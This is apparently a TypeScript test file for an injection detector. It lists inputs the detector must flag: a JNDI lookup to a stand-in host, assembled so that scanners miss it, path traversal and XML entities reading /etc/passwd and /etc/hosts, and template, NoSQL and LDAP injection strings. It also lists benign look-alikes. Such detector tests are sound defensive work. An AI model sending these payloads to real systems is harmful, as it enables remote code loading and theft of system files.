import { describeDetectorContract } from './contract.ts';
import { interpreterInjection } from './interpreter-injection.ts';

/** A lookup, assembled so that scanners do not flag this file as an attack. */
const LOOKUP = ['$', '{jndi:ldap://x.example.net/a}'].join('');

describeDetectorContract(interpreterInjection, {
  finds: [
    ['name={{7*7}}', ['{{7*7}}']],
    [`User-Agent: ${LOOKUP}`, [LOOKUP.slice(0, 7)]],
    ['file=../../../../etc/passwd', ['../../../../etc/passwd']],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]>', ['<!ENTITY x SYSTEM "file:///etc/hosts']],
    ['user[$ne]=x', ['r[$ne]=']],
    ['cn=*)(uid=*', ['*)(uid']],
  ],
  ignores: [
    '{{ user.name }} has {{ items|length }} items',
    `const total = \`\${a * b}\`;`,
    'import x from "../../components/Button";',
    'db.users.find({ age: { $gt: 18 } })',
    '<!ENTITY writer "Jo Doe">',
    '(&(objectClass=person)(uid=jo))',
    '<?php echo $_GET["name"]; ?>',
    'What is stored in /etc/passwd?',
    'print(obj.__class__.__name__)',
  ],
  hostile: ['{{', '${${', '../', '..%', '*)(', '<!entity a ', '"$', 'o:1:"', '__class__', '{{{{7*', '%0d%0a'],
});
